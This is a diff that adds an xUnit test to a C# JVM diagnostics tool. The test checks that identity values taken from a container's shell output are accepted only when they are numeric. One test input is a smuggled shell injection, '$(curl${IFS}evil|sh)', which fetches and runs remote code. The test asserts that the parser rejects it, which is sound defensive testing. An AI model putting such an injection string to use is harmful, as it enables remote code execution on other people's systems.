@@ -1,6 +1,7 @@
 using JvmDebug.Diagnostics.Captures;
 using JvmDebug.Diagnostics.Doctor;
 using JvmDebug.Diagnostics.Doctor.Checks;
+using JvmDebug.Diagnostics.Scripts;
 using Xunit;
 
 namespace JvmDebug.Diagnostics.Tests.Doctor;
@@ -230,4 +231,16 @@ public sealed class JvmChecksTests
         Assert.Equal(
             $"kubectl exec cart-0 -n shop -c jvmdebug-x -- setpriv --reuid 65532 --regid 65532 {groups} rm /proc/1/root/tmp/.java_pid99",
             Assert.Single(LeftoversCheck.Of(Facts.Of(), Facts.Jvm() with { TakesIdentity = identity, Leftovers = [".java_pid99"] })).Fix);
+
+    [Fact]
+    public void What_a_target_s_own_shell_says_of_identities_is_pasted_if_it_is_numbers()
+    {
+        var reply = new ScriptReply();
+        reply.Add("jvm 1\t1\t1000\t1000\t0\t0\t0\tjava\u001fdemo.Busy");
+        reply.Add("takes-identity 65532 65532 1000,2000");
+        Assert.Equal("65532 65532 1000,2000", JvmFacts.Of(reply, "app", "jvmdebug-x").TakesIdentity);
+
+        reply.Add("takes-identity $(curl${IFS}evil|sh) 0 -");
+        Assert.Null(JvmFacts.Of(reply, "app", "jvmdebug-x").TakesIdentity);
+    }
 }
